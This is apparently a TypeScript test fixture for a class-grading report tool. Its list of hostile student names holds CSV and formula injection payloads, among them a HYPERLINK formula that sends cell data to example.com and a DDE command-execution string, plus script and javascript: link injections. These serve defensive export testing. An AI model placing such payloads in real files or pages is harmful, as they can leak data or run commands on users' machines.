import type { ClassReport, Platform, Row } from '../../../types/class-report.ts';

/** Names as people have them, and as people who want to see what happens choose them. */
export const HOSTILE_NAMES = [
  'Bo "the Comma", Jr.',
  '=HYPERLINK("http://example.com?x="&A1,"Ana")',
  '+1-555-0100',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  "'=quoted already",
  "''+twice",
  '＝1+1',
  'Semi;=1+1',
  'Comma,=1+1',
  'Line\nbreak\n=1+1',
  'Right\u202eto left',
  'עדי כהן',
  'علی‌رضا',
  '👩‍💻 Zoë O’Brien',
  "D'Arcy",
  '7_8',
  '4711',
  '<script>alert(1)</script>',
  'A|B `code` [x](javascript:1)',
] as const;

const base = (name: string, index: number): Row => ({
  key: `canvas-${10_000 + index}`,
  name,
  userId: String(10_000 + index),
  state: 'graded',
  late: false,
  uploads: [],
  notes: [],
  earned: 4.7,
  possible: 5,
  score: 4.7,
  files: filesOf(`canvas-${10_000 + index}`),
});

const filesOf = (key: string) => ({
  html: `reports/${key}/report.html`,
  text: `reports/${key}/report.txt`,
  json: `reports/${key}/report.json`,
  evidence: `reports/${key}/evidence.json`,
});

/** Rows without a grade, each for another reason. */
const ungraded = (index: number): Row[] => {
  const row = (at: number, name: string, more: Partial<Row>): Row => {
    const { earned: _, possible: __, score: ___, files: ____, ...rest } = base(name, index + at);
    return { ...rest, ...more };
  };
  return [
    row(0, 'Review, Needed', { state: 'needs-review', reason: '=The grader failed twice.', earned: 1, possible: 2 }),
    row(1, 'Broken, Zip', { state: 'could-not-grade', reason: 'The zip is damaged.', notes: ['-a note', 'another'] }),
    row(2, 'Nobody, Came', { state: 'nothing-submitted' }),
    row(3, 'Excused, Ed', { state: 'nothing-submitted', excused: true }),
  ];
};

export const classOf = (platform: Platform, rows: Row[]): ClassReport => ({
  schemaVersion: 1,
  grader: '1.2.3',
  startedAt: '2022-05-21T10:00:00.000Z',
  edition: 'spring-2022',
  rubric: 'default',
  possible: 5,
  source: { name: 'submissions.zip', platform },
  rows,
});

/** A graded row for each hostile name, then those without a grade. */
export const hostileClass = (platform: Platform = 'canvas'): ClassReport =>
  classOf(platform, [...HOSTILE_NAMES.map(base), ...ungraded(HOSTILE_NAMES.length)]);

/** One graded row. */
export const rowOf = (more: Partial<Row> = {}): Row => ({ ...base('Ana B', 231), ...more });
